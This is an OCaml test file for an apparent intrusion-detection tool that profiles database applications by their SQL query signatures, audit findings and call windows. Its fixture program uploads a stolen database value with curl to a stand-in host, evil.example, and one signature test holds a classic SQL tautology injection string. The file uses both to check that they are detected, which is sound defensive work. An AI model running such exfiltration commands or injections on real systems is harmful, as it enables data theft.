(* Tests for the Sec. VII mitigations and operational extensions:
   SQL canonical printing and query signatures, run-level auditing
   (file labels + shell commands), profile serialization, and the
   adaptive-threshold monitor. *)

module Sql_pp = Sqldb.Sql_pp
module Qprofile = Adprom_qsig.Profile
module Audit = Adprom.Audit
module Profile = Adprom.Profile
module Profile_io = Adprom.Profile_io
module Monitor = Adprom.Monitor
module Detector = Adprom.Detector
module Pipeline = Adprom.Pipeline
module Window = Adprom.Window
module Symbol = Analysis.Symbol

(* A query text's signature; [None] when it does not parse. *)
let signature_of_sql sql =
  Result.to_option (Result.map Sql_pp.signature (Sqldb.Sql_parser.parse sql))

let qprofile_of sqls =
  let q = Qprofile.create () in
  List.iter (Qprofile.learn q) sqls;
  q

(* --- sql printing / signatures --------------------------------------------- *)

let test_sql_pp_roundtrip () =
  let sources =
    [
      "SELECT id, name FROM users WHERE age >= 30 AND NOT name = 'bob' ORDER BY id DESC LIMIT 2";
      "SELECT COUNT(*) FROM t";
      "SELECT SUM(amount) FROM t WHERE kind = 'x'";
      "SELECT AVG(total) FROM sales";
      "INSERT INTO t (a, b) VALUES (1, 'x'), (2, NULL)";
      "UPDATE t SET a = 3, b = 'y' WHERE a < 9 OR b LIKE '%q%'";
      "DELETE FROM t WHERE NOT (a = 1 AND b = 2)";
      "CREATE TABLE t (a, b, c)";
    ]
  in
  List.iter
    (fun src ->
      let parse sql =
        match Sqldb.Sql_parser.parse sql with
        | Ok stmt -> stmt
        | Error e -> Alcotest.failf "unparseable %S: %s" sql e
      in
      let printed = Sql_pp.to_string (parse src) in
      let reparsed = parse printed in
      Alcotest.(check string)
        (Printf.sprintf "stable rendering of %S" src)
        printed
        (Sql_pp.to_string reparsed))
    sources

let test_sql_signature_erases_literals () =
  let sig_of sql = Option.get (signature_of_sql sql) in
  Alcotest.(check string) "same structure, same signature"
    (sig_of "SELECT * FROM clients WHERE id = '105'")
    (sig_of "SELECT * FROM clients WHERE id = '999'");
  Alcotest.(check bool) "tautology changes the signature" true
    (sig_of "SELECT * FROM clients WHERE id = '105'"
    <> sig_of "SELECT * FROM clients WHERE id = '1' OR '1' = '1'");
  Alcotest.(check bool) "unparseable is None" true
    (signature_of_sql "DROP EVERYTHING" = None)

let test_qsig_profile () =
  let q = qprofile_of [ "SELECT * FROM t WHERE a = 1"; "SELECT COUNT(*) FROM t" ] in
  Alcotest.(check int) "two signatures learned" 2 (Qprofile.cardinality q);
  let known sql = Audit.unknown_in_run q [ sql ] = [] in
  Alcotest.(check bool) "constant change stays known" true
    (known "SELECT * FROM t WHERE a = 42");
  Alcotest.(check bool) "structural change is unknown" false
    (known "SELECT * FROM t WHERE a = 1 OR a = 2");
  Alcotest.(check int) "unknown_in_run dedups" 1
    (List.length
       (Audit.unknown_in_run q
          [ "SELECT * FROM t WHERE a = 1 OR a = 2"; "SELECT * FROM t WHERE a = 9 OR a = 3" ]));
  Alcotest.(check (list string)) "malformed texts share one bucket" [ "<malformed>" ]
    (Audit.unknown_in_run q [ "DROP EVERYTHING"; "SELECT FROM FROM (" ])

(* --- audit ------------------------------------------------------------------ *)

let exfil_source =
  {|
    fun main() {
      let conn = db_connect("pg");
      let r = pq_exec(conn, "SELECT name FROM secrets WHERE id = 1");
      let f = fopen("/tmp/stash.txt", "w");
      fprintf(f, "%s", pq_getvalue(r, 0, 0));
      fclose(f);
      system("curl --upload-file /tmp/stash.txt http://evil.example");
    }
  |}

let run_exfil () =
  let analysis = Analysis.Analyzer.analyze (Applang.Parser.parse_program exfil_source) in
  let engine = Sqldb.Engine.create () in
  ignore (Sqldb.Engine.exec engine "CREATE TABLE secrets (id, name)");
  ignore (Sqldb.Engine.exec engine "INSERT INTO secrets VALUES (1, 'formula')");
  snd (Runtime.Interp.collect_trace ~analysis ~engine (Runtime.Testcase.make "t"))

let test_outcome_tracks_queries_and_files () =
  let out = run_exfil () in
  Alcotest.(check (list string)) "queries recorded"
    [ "SELECT name FROM secrets WHERE id = 1" ]
    out.Runtime.Interp.queries;
  Alcotest.(check (list string)) "stash file labeled" [ "/tmp/stash.txt" ]
    out.Runtime.Interp.tainted_files

let test_audit_findings () =
  let out = run_exfil () in
  (* Training knew a different query shape and no file exfiltration. *)
  let qsig = qprofile_of [ "SELECT COUNT(*) FROM secrets" ] in
  let findings = Audit.audit ~qsig out in
  let has_query =
    List.exists (function Audit.Unknown_query_signature _ -> true | _ -> false) findings
  in
  let has_file =
    List.exists
      (function
        | Audit.Tainted_file_command { path; _ } -> path = "/tmp/stash.txt"
        | _ -> false)
      findings
  in
  Alcotest.(check bool) "unknown signature reported" true has_query;
  Alcotest.(check bool) "file exfiltration reported" true has_file;
  (* With the signature learned and no shell touch, nothing fires. *)
  let qsig' = Audit.learn [ out ] in
  let quiet = { out with Runtime.Interp.system_calls = [ "ls /" ] } in
  Alcotest.(check int) "clean run has no findings" 0 (List.length (Audit.audit ~qsig:qsig' quiet))

(* --- profile serialization ---------------------------------------------------- *)

let small_profile =
  lazy
    (let app =
       {
         Pipeline.name = "ser";
         source =
           {|
             fun main() {
               let r = pq_exec(db_connect("pg"), "SELECT name FROM t");
               let n = pq_ntuples(r);
               for (let i = 0; i < n; i = i + 1) { printf("%s\n", pq_getvalue(r, i, 0)); }
             }
           |};
         dbms = "PostgreSQL";
         setup_db =
           (fun e ->
             ignore (Sqldb.Engine.exec e "CREATE TABLE t (name)");
             ignore (Sqldb.Engine.exec e "INSERT INTO t VALUES ('a'), ('b')"));
         test_cases = List.init 6 (fun i -> Runtime.Testcase.make (Printf.sprintf "c%d" i));
       }
     in
     let ds = Pipeline.collect app in
     (ds, Pipeline.train ds))

let test_profile_io_roundtrip () =
  let ds, profile = Lazy.force small_profile in
  let text = Profile_io.to_string profile in
  match Profile_io.of_string text with
  | Error msg -> Alcotest.failf "parse failed: %s" msg
  | Ok profile' ->
      Alcotest.(check (float 1e-12)) "threshold preserved" profile.Profile.threshold
        profile'.Profile.threshold;
      Alcotest.(check int) "alphabet preserved"
        (Array.length profile.Profile.alphabet)
        (Array.length profile'.Profile.alphabet);
      (* Detection behaviour identical on every training window. *)
      List.iter
        (fun w ->
          let v = Detector.classify profile w and v' = Detector.classify profile' w in
          Alcotest.(check bool) "same flag" true (v.Detector.flag = v'.Detector.flag);
          Alcotest.(check (float 1e-6)) "same score" v.Detector.score v'.Detector.score)
        ds.Pipeline.windows

let test_profile_io_rejects_garbage () =
  Alcotest.(check bool) "bad magic" true
    (match Profile_io.of_string "nonsense" with Error _ -> true | Ok _ -> false);
  let _, profile = Lazy.force small_profile in
  let text = Profile_io.to_string profile in
  let truncated = String.sub text 0 (String.length text / 2) in
  Alcotest.(check bool) "truncation detected" true
    (match Profile_io.of_string truncated with Error _ -> true | Ok _ -> false)

(* A header count that no line backs must not size an allocation: each
   input below is rejected after well under a MiB of allocation, where
   sizing from the header would take hundreds. Nor may a two-byte
   sparse row: rows stay sparse until the [b] header and every later
   count agree (expanding 4000 of them as read took 490 MiB). A
   negative count is refused outright. *)
let test_profile_io_bounded_by_lines () =
  let prefix =
    "adprom-profile 1\nparams 15 0 0.5 0.95 true true\nthreshold -1\nalphabet 1\nentry\npi 1\n"
  in
  let cases =
    [
      ("pairs with no pair lines", prefix ^ "a 1\nd 1\nb 1 1\nd 1\npairs 30000000\n");
      ( "a 4000 rows under a one-entry pi",
        prefix ^ "a 4000\n" ^ String.concat "" (List.init 4000 (fun _ -> "s\n")) ^ "b 1 1\nd 1\n" );
      ("negative site count", prefix ^ "a 1\nd 1\nb 1 1\nd 1\npairs 0\nsites -1\n");
      ( "4000 empty rows, then a b header that disowns them",
        "adprom-profile 1\nparams 15 0 0.5 0.95 true true\nthreshold -1\nalphabet 1\nentry\npi "
        ^ String.concat " " (List.init 4000 (fun _ -> "0"))
        ^ "\na 4000\n"
        ^ String.concat "" (List.init 4000 (fun _ -> "s\n"))
        ^ "b 1 1\nd 1\n" );
      ( "negative alphabet count",
        "adprom-profile 1\nparams 15 0 0.5 0.95 true true\nthreshold -1\nalphabet -1\npi 1\n\
         a 1\nd 1\nb 1 0\nd\npairs 0\nsites 0\n" );
    ]
  in
  List.iter
    (fun (name, text) ->
      (* minor words as the minor heap fills, plus what went straight
         to the major heap: [Gc.allocated_bytes] counts a minor heap's
         words only when it is collected, so it reads near 0 or near a
         whole minor heap depending on where a collection falls *)
      let minor = Gc.minor_words () and stat = Gc.quick_stat () in
      let result = Profile_io.of_string text in
      let minor = Gc.minor_words () -. minor and stat' = Gc.quick_stat () in
      let allocated =
        8.0
        *. (minor
           +. (stat'.Gc.major_words -. stat.Gc.major_words)
           -. (stat'.Gc.promoted_words -. stat.Gc.promoted_words))
      in
      Alcotest.(check bool) (name ^ ": rejected") true (Result.is_error result);
      Alcotest.(check bool)
        (Printf.sprintf "%s: %.0f bytes allocated < 1 MiB" name allocated)
        true
        (allocated < 1048576.0))
    cases

let test_profile_io_file_roundtrip () =
  let _, profile = Lazy.force small_profile in
  let path = Filename.temp_file "adprom" ".profile" in
  Profile_io.save profile path;
  (match Profile_io.load path with
  | Ok p -> Alcotest.(check (float 1e-12)) "load" profile.Profile.threshold p.Profile.threshold
  | Error msg -> Alcotest.failf "load failed: %s" msg);
  Sys.remove path;
  Alcotest.(check bool) "missing file is an error" true
    (match Profile_io.load path with Error _ -> true | Ok _ -> false)

(* --- incremental retraining (Profile.extend) -------------------------------- *)

let test_profile_extend () =
  let ds, profile = Lazy.force small_profile in
  let w = List.hd ds.Pipeline.windows in
  let extended = Profile.extend profile [ w; w; w ] in
  Alcotest.(check bool) "threshold never rises" true
    (extended.Profile.threshold <= profile.Profile.threshold +. 1e-12);
  (* New (caller, call) pairs become known. *)
  let drifted =
    { Adprom.Window.obs = Array.copy w.Adprom.Window.obs;
      callers = Array.map (fun _ -> "new_helper") w.Adprom.Window.callers }
  in
  let before = Detector.classify profile drifted in
  Alcotest.(check bool) "unknown pair before" true
    (before.Detector.unknown_pair <> None);
  let extended = Profile.extend profile [ drifted ] in
  let after = Detector.classify extended drifted in
  Alcotest.(check bool) "pair known after extend" true
    (after.Detector.unknown_pair = None);
  (* Windows with unseen symbols are ignored, not learned. *)
  let evil =
    { Adprom.Window.obs = Array.map (fun _ -> Symbol.lib "evil_call") w.Adprom.Window.obs;
      callers = Array.copy w.Adprom.Window.callers }
  in
  let unchanged = Profile.extend profile [ evil ] in
  Alcotest.(check bool) "attack windows not absorbed" true
    ((Detector.classify unchanged evil).Detector.flag <> Detector.Normal)

(* --- adaptive monitor ----------------------------------------------------------- *)

let test_monitor_counts () =
  let _, profile = Lazy.force small_profile in
  let monitor = Monitor.create profile in
  let ds, _ = Lazy.force small_profile in
  List.iter (fun w -> ignore (Monitor.classify monitor w)) ds.Pipeline.windows;
  Alcotest.(check int) "all windows accounted" (List.length ds.Pipeline.windows)
    (Monitor.windows_seen monitor);
  Alcotest.(check int) "no alarms on training data" 0 (Monitor.alarms_raised monitor)

let test_monitor_adapts_down () =
  let _, profile = Lazy.force small_profile in
  let monitor = Monitor.create ~target_fp_rate:0.01 ~adjust_every:10 profile in
  let t0 = Monitor.threshold monitor in
  let ds, _ = Lazy.force small_profile in
  let w = List.hd ds.Pipeline.windows in
  (* The admin keeps reporting false alarms: the threshold must drop. *)
  for _ = 1 to 10 do
    ignore (Monitor.classify monitor w);
    Monitor.report_false_positive monitor
  done;
  Alcotest.(check bool) "threshold lowered" true (Monitor.threshold monitor < t0)

let test_monitor_adapts_up () =
  let _, profile = Lazy.force small_profile in
  let monitor = Monitor.create ~target_fp_rate:0.5 ~adjust_every:10 profile in
  let t0 = Monitor.threshold monitor in
  let ds, _ = Lazy.force small_profile in
  let w = List.hd ds.Pipeline.windows in
  for _ = 1 to 10 do
    ignore (Monitor.classify monitor w)
  done;
  Alcotest.(check bool) "quiet period raises the threshold" true
    (Monitor.threshold monitor > t0)

(* --- multi-session monitoring ------------------------------------------------ *)

let mk_trace names =
  Array.of_list
    (List.map
       (fun n -> { Runtime.Collector.symbol = Symbol.lib n; caller = "main"; block = -1 })
       names)

let test_sessions_roundtrip () =
  let a = mk_trace [ "a1"; "a2"; "a3" ] and b = mk_trace [ "b1"; "b2" ] in
  let rng = Mlkit.Rng.create 3 in
  let host = Adprom.Sessions.interleave ~rng [ a; b ] in
  Alcotest.(check int) "all events present" 5 (Array.length host);
  (match Adprom.Sessions.demux host with
  | [ (0, a'); (1, b') ] ->
      Alcotest.(check bool) "session 0 recovered" true (a' = a);
      Alcotest.(check bool) "session 1 recovered" true (b' = b)
  | _ -> Alcotest.fail "expected two sessions");
  (* per-session order is preserved inside the host stream *)
  let order_of session =
    Array.to_list host
    |> List.filter (fun (t : Adprom.Sessions.tagged) -> t.Adprom.Sessions.session = session)
    |> List.map (fun (t : Adprom.Sessions.tagged) ->
           Symbol.name t.Adprom.Sessions.event.Runtime.Collector.symbol)
  in
  Alcotest.(check (list string)) "order preserved" [ "a1"; "a2"; "a3" ] (order_of 0)

let test_sessions_windowing () =
  let a = mk_trace [ "a"; "a"; "a"; "a" ] and b = mk_trace [ "b"; "b"; "b"; "b" ] in
  let rng = Mlkit.Rng.create 5 in
  let host = Adprom.Sessions.interleave ~rng [ a; b ] in
  let naive = Adprom.Sessions.windows_naive ~window:3 host in
  let per_session = Adprom.Sessions.windows_per_session ~window:3 host in
  Alcotest.(check int) "naive window count" 6 (List.length naive);
  Alcotest.(check int) "per-session window count" 4 (List.length per_session);
  (* per-session windows never mix symbols *)
  List.iter
    (fun (w : Adprom.Window.t) ->
      let names = Array.map Symbol.name w.Adprom.Window.obs in
      Alcotest.(check bool) "homogeneous" true
        (Array.for_all (( = ) names.(0)) names))
    per_session;
  (* the interleaving mixed at least one naive window *)
  Alcotest.(check bool) "naive mixes sessions" true
    (List.exists
       (fun (w : Adprom.Window.t) ->
         let names = Array.map Symbol.name w.Adprom.Window.obs in
         not (Array.for_all (( = ) names.(0)) names))
       naive)

(* --- trace persistence --------------------------------------------------------- *)

let test_trace_io_roundtrip () =
  let trace =
    [|
      { Runtime.Collector.symbol = Symbol.lib "printf"; caller = "main"; block = 4 };
      {
        Runtime.Collector.symbol = Symbol.Lib { name = "printf"; label = Some 6; site = Some 6 };
        caller = "f";
        block = 6;
      };
      { Runtime.Collector.symbol = Symbol.Func "helper"; caller = "main"; block = -1 };
    |]
  in
  let text = Runtime.Trace_io.to_string trace in
  (match Runtime.Trace_io.of_string text with
  | Ok trace' -> Alcotest.(check bool) "round trip" true (trace = trace')
  | Error e -> Alcotest.failf "parse failed: %s" e);
  (match Runtime.Trace_io.of_string "garbage line" with
  | Error _ -> ()
  | Ok _ -> Alcotest.fail "garbage accepted");
  let path = Filename.temp_file "adprom" ".trace" in
  Runtime.Trace_io.save trace path;
  (match Runtime.Trace_io.load path with
  | Ok trace' -> Alcotest.(check bool) "file round trip" true (trace = trace')
  | Error e -> Alcotest.failf "load failed: %s" e);
  Sys.remove path

let test_trace_io_feeds_training () =
  (* A trace that went through disk trains the same windows. *)
  let ds, _ = Lazy.force small_profile in
  let _, trace0 = (List.hd ds.Pipeline.traces : Runtime.Testcase.t * Runtime.Collector.trace) in
  match Runtime.Trace_io.of_string (Runtime.Trace_io.to_string trace0) with
  | Ok trace ->
      Alcotest.(check int) "same windows"
        (List.length (Window.of_trace trace0))
        (List.length (Window.of_trace trace))
  | Error e -> Alcotest.failf "round trip failed: %s" e

let () =
  Alcotest.run "extensions"
    [
      ( "query signatures",
        [
          Alcotest.test_case "sql printing is stable" `Quick test_sql_pp_roundtrip;
          Alcotest.test_case "signatures erase literals" `Quick test_sql_signature_erases_literals;
          Alcotest.test_case "qsig profile" `Quick test_qsig_profile;
        ] );
      ( "audit",
        [
          Alcotest.test_case "outcome tracks queries and labeled files" `Quick
            test_outcome_tracks_queries_and_files;
          Alcotest.test_case "audit findings" `Quick test_audit_findings;
        ] );
      ( "profile io",
        [
          Alcotest.test_case "round trip preserves detection" `Quick test_profile_io_roundtrip;
          Alcotest.test_case "rejects garbage" `Quick test_profile_io_rejects_garbage;
          Alcotest.test_case "file round trip" `Quick test_profile_io_file_roundtrip;
          Alcotest.test_case "header counts do not size allocations" `Quick
            test_profile_io_bounded_by_lines;
        ] );
      ( "incremental retraining",
        [ Alcotest.test_case "extend widens the profile safely" `Quick test_profile_extend ] );
      ( "multi-session",
        [
          Alcotest.test_case "interleave/demux round trip" `Quick test_sessions_roundtrip;
          Alcotest.test_case "windowing disciplines" `Quick test_sessions_windowing;
        ] );
      ( "trace io",
        [
          Alcotest.test_case "round trip" `Quick test_trace_io_roundtrip;
          Alcotest.test_case "feeds training" `Quick test_trace_io_feeds_training;
        ] );
      ( "adaptive monitor",
        [
          Alcotest.test_case "accounting" `Quick test_monitor_counts;
          Alcotest.test_case "adapts down on false alarms" `Quick test_monitor_adapts_down;
          Alcotest.test_case "adapts up when quiet" `Quick test_monitor_adapts_up;
        ] );
    ]
